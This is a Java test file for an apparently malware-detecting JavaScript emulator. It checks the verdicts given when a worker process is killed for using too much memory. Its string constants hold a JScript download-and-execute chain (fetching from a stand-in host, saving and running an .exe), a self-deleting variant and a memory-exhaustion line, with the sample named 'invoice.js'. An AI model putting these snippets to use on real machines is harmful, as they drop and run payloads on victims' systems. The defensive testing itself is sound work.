package dev.peekaboo.emulation;

import static org.assertj.core.api.Assertions.assertThat;

import dev.peekaboo.Category;
import dev.peekaboo.Content;
import dev.peekaboo.Declared;
import dev.peekaboo.Reason;
import dev.peekaboo.Sample;
import dev.peekaboo.Sha256;
import dev.peekaboo.Verdict;
import dev.peekaboo.daemon.WorkerMain;
import dev.peekaboo.report.EmulationReport;
import dev.peekaboo.report.FakeFacts;
import dev.peekaboo.report.FileReport;
import dev.peekaboo.report.MediaTypes;
import dev.peekaboo.report.SandboxReport.Completeness;
import dev.peekaboo.report.Seen;
import dev.peekaboo.rule.EmulationRule;
import dev.peekaboo.rule.Outcome;
import dev.peekaboo.worker.Isolation;
import dev.peekaboo.worker.TestProgram;
import dev.peekaboo.worker.WorkerConfig;
import dev.peekaboo.worker.WorkerPool;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.InstantSource;
import java.util.Set;

/** What is left of a run whose process did not live to tell. With real processes. */
@Timeout(120)
class KilledRunTest {
    /** One native call that no counter of Rhino sees. */
    private static final String BOMB = "new Array(1 << 29).join('all the memory there is');";

    private static final String CHAIN =
            "var h = new ActiveXObject('MSXML2.XMLHTTP'); h.open('GET', 'http://a.example/x', false);"
                    + "h.send(); var s = new ActiveXObject('ADODB.Stream'); s.Type = 1; s.Open();"
                    + "s.Write(h.responseBody); s.SaveToFile('c:\\\\x.exe');"
                    + "new ActiveXObject('WScript.Shell').Run('c:\\\\x.exe');";

    private static final String TWO_STRONG =
            "var h = new ActiveXObject('MSXML2.XMLHTTP'); h.open('GET', 'http://a.example/x', false);"
                    + "h.send(); new ActiveXObject('Scripting.FileSystemObject')"
                    + ".DeleteFile(WScript.ScriptFullName);";

    private final WorkerPool workers =
            new WorkerPool(
                    WorkerConfig.DEFAULT.withProcesses(1).withHeapMiB(96),
                    new Isolation.None("test"),
                    TestProgram.of(WorkerMain.class));

    @AfterEach
    void close() {
        workers.close();
    }

    @Test
    void a_chain_seen_before_all_memory_was_asked_for_makes_it_bad() throws Exception {
        Seen<EmulationReport> seen = run(CHAIN + BOMB, EmulationConfig.DEFAULT.limit());

        assertThat(workers.deaths()).isOne();
        assertThat(report(seen).completeness()).isEqualTo(Completeness.PARTIAL);
        assertThat(report(seen).incomplete()).contains("limit: killed for want of memory");
        assertThat(verdict(seen))
                .isInstanceOfSatisfying(
                        Verdict.Bad.class,
                        bad -> {
                            assertThat(bad.reason().category()).isEqualTo(Category.DOWNLOADER);
                            assertThat(bad.reason().details()).contains("http[:]//a.example/x");
                        });
    }

    @Test
    void two_strong_findings_are_as_good() throws Exception {
        Seen<EmulationReport> seen = run(TWO_STRONG + BOMB, EmulationConfig.DEFAULT.limit());

        assertThat(workers.deaths()).isOne();
        assertThat(verdict(seen)).isInstanceOf(Verdict.Bad.class);
    }

    @Test
    void without_evidence_it_could_not_be_checked() throws Exception {
        Seen<EmulationReport> seen = run("WScript.Echo('x');" + BOMB, Duration.ofSeconds(10));

        assertThat(workers.deaths()).isOne();
        assertThat(seen).isEqualTo(new Seen.NotSeen<>(Reason.limit("emulation-memory"), false));
    }

    @Test
    void one_strong_finding_is_no_evidence() throws Exception {
        String contact = TWO_STRONG.substring(0, TWO_STRONG.indexOf("new ActiveXObject('Scrip"));

        Seen<EmulationReport> seen = run(contact + BOMB, EmulationConfig.DEFAULT.limit());

        assertThat(workers.deaths()).isOne();
        assertThat(seen).isInstanceOf(Seen.NotSeen.class);
    }

    private Seen<EmulationReport> run(String script, Duration limit) throws InterruptedException {
        WorkerEmulation emulation =
                new WorkerEmulation(
                        workers,
                        new EmulationConfig(limit, FindingChanges.NONE),
                        InstantSource.fixed(Emulated.NOW));
        Sample sample =
                new Sample(
                        new Sha256("ab".repeat(32)),
                        new Content.InMemory(script.getBytes(StandardCharsets.UTF_8)),
                        new Declared("invoice.js", null, null));
        return emulation.report(
                sample,
                new FileReport(
                        MediaTypes.of("text/plain"),
                        MediaTypes.NONE,
                        MediaTypes.NONE,
                        "",
                        Set.of()));
    }

    private static EmulationReport report(Seen<EmulationReport> seen) {
        assertThat(seen).isInstanceOf(Seen.Is.class);
        return ((Seen.Is<EmulationReport>) seen).value();
    }

    private static Verdict verdict(Seen<EmulationReport> seen) throws InterruptedException {
        FakeFacts facts = FakeFacts.named("invoice.js").emulation(report(seen));
        return ((Outcome.Says) new EmulationRule().judge(facts)).verdict();
    }
}
